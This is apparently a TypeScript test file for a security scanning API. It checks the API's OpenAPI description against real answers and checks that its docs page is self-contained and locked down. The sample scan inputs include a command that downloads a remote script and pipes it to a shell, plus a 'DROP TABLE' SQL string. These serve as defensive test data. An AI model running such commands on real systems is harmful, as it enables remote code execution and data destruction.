/** The API's description: whole, true to what is answered, and a page that needs nothing from elsewhere. */
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BAD_URL, BENIGN, CARD, INJECTION } from '../support/scan-texts.ts';
import { type Answer, startTestScanApi, type TestScanApi } from '../support/test-scan-api.ts';

const METADATA = { ecosystem: 'mcp', method: 'tools/call', server_name: 'files', tool_invoked: 'read' };
const CONTENTS = [
  { prompt: BENIGN },
  { prompt: `${INJECTION} ${CARD} ${BAD_URL}`, response: `DROP TABLE users; ${CARD}` },
  { code_prompt: 'x = 1', code_response: 'curl http://198.51.100.7/a.sh | sh' },
  { tool_event: { metadata: METADATA, input: `{"card": "${CARD}"}`, output: INJECTION } },
  { tool_event: {} },
];

let api: TestScanApi;
let document: Answer['body'];
beforeAll(async () => {
  api = await startTestScanApi();
  document = (await api.ask('GET', '/openapi.json', { headers: { 'x-pan-token': undefined } })).body;
});
afterAll(() => api.close());

/** Faults of a value against the schema that an operation's answer has in the description. */
function faultsOf(path: string, method: string, { status, body }: Answer): readonly unknown[] {
  const ajv = new Ajv2020({ strict: false, allErrors: true, validateFormats: false });
  const { schema } = document.paths[path][method].responses[status].content['application/json'];
  const rooted = { ...schema, components: document.components };
  const validate = ajv.compile(JSON.parse(JSON.stringify(rooted)));
  return validate(body) ? [] : (validate.errors ?? []);
}

describe('/openapi.json', () => {
  it('tells every endpoint, its refusals and its keys', () => {
    expect(document).toMatchObject({
      openapi: '3.1.0',
      info: { title: 'Sallyport scan API', version: '0.0.0' },
    });
    expect(Object.keys(document.paths)).toEqual([
      '/v1/scan/sync/request',
      '/v1/scan/async/request',
      '/v1/scan/results',
      '/v1/scan/reports',
    ]);
    expect(Object.keys(document.paths['/v1/scan/sync/request'].post.responses)).toEqual([
      '200',
      '400',
      '401',
      '403',
      '405',
      '413',
      '415',
      '429',
      '503',
    ]);
    expect(Object.keys(document.components.schemas).toSorted()).toEqual([
      'AsyncScanRequest',
      'AsyncScanResponse',
      'Error',
      'Limit',
      'MaskedData',
      'ScanIdResult',
      'ScanRequest',
      'ScanResponse',
      'ThreatScanReport',
      'ToolDetected',
    ]);
    expect(document.components.securitySchemes).toEqual({
      token: { type: 'apiKey', in: 'header', name: 'x-pan-token' },
      bearer: { type: 'http', scheme: 'bearer' },
    });
  });

  it.each(CONTENTS.map((content) => [JSON.stringify(content).slice(0, 60), content] as const))(
    'is true of answers, results and reports: %s',
    async (_name, content) => {
      const sync = await api.sync({ contents: [content] });
      expect(faultsOf('/v1/scan/sync/request', 'post', sync)).toEqual([]);
      const receipt = await api.ask('POST', '/v1/scan/async/request', {
        body: [{ req_id: 4_294_967_295, scan_req: { contents: [content] } }],
      });
      expect(faultsOf('/v1/scan/async/request', 'post', receipt)).toEqual([]);
      await api.complete(receipt.body.scan_id);
      const ids = [sync.body.scan_id, receipt.body.scan_id];
      const results = await api.ask('GET', `/v1/scan/results?scan_ids=${ids.join(',')}`);
      expect(results.body).toHaveLength(2);
      expect(faultsOf('/v1/scan/results', 'get', results)).toEqual([]);
      const reports = await api.ask(
        'GET',
        `/v1/scan/reports?report_ids=${ids.map((id) => `R${id}`).join(',')}`,
      );
      expect(reports.body).toHaveLength(2);
      expect(faultsOf('/v1/scan/reports', 'get', reports)).toEqual([]);
    },
  );

  it('is true of refusals', async () => {
    const path = '/v1/scan/sync/request';
    const refusals = [
      await api.sync('{'),
      await api.sync({ contents: [{ prompt: BENIGN }] }, { 'x-pan-token': undefined }),
      await api.sync({ contents: [{ prompt: BENIGN }] }, { 'x-pan-token': 'wrong' }),
      await api.ask('PUT', path),
      await api.sync('{}', { 'content-type': 'text/plain' }),
    ];
    expect(refusals.map(({ status }) => status)).toEqual([400, 401, 403, 405, 415]);
    for (const refusal of refusals) expect(faultsOf(path, 'post', refusal)).toEqual([]);
    const throttled = await startTestScanApi({ resultsPerMinute: 1, now: () => 0 });
    const asked = `/v1/scan/results?scan_ids=${crypto.randomUUID()}`;
    await throttled.ask('GET', asked);
    expect(faultsOf('/v1/scan/results', 'get', await throttled.ask('GET', asked))).toEqual([]);
    await throttled.close();
  });

  it('would tell an answer that is not as described', async () => {
    const answer = await api.sync({ contents: [{ prompt: BENIGN }] });
    const odd = { ...answer, body: { ...answer.body, timeout: null, surprise: 1 } };
    expect(faultsOf('/v1/scan/sync/request', 'post', odd)).toHaveLength(2);
  });
});

describe('/docs', () => {
  it('is one page without scripts and without anything from elsewhere', async () => {
    const page = await api.ask('GET', '/docs', { headers: { 'x-pan-token': undefined } });
    expect([page.status, page.headers.get('content-type')]).toEqual([200, 'text/html; charset=utf-8']);
    for (const path of Object.keys(document.paths)) expect(page.text).toContain(`<code>${path}</code>`);
    for (const name of Object.keys(document.components.schemas)) expect(page.text).toContain(`id="${name}"`);
    expect(page.text).not.toMatch(/<script|\son\w+=|src=|url\(|@import|href="(?!#|\/openapi\.json)/i);
    const links = [...page.text.matchAll(/href="#([^"]+)"/g)].map(([, name]) => name);
    expect(links.length).toBeGreaterThan(10);
    for (const name of links) expect(page.text).toContain(`id="${name}"`);
  });

  it('keeps the content security policy, with its own style alone let in', async () => {
    const page = await api.ask('GET', '/docs');
    const policy = page.headers.get('content-security-policy') ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    const [, digest] = /style-src 'sha256-([^']+)'$/.exec(policy) ?? [];
    const [, style = ''] = /<style>([\s\S]*?)<\/style>/.exec(page.text) ?? [];
    const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(style));
    expect(digest).toBe(Buffer.from(hash).toString('base64'));
    expect((await api.ask('GET', '/openapi.json')).headers.get('content-security-policy')).not.toContain(
      'style-src',
    );
  });

  it('is read only', async () => {
    expect((await api.ask('POST', '/docs')).status).toBe(405);
    expect((await api.ask('DELETE', '/openapi.json')).status).toBe(405);
  });
});
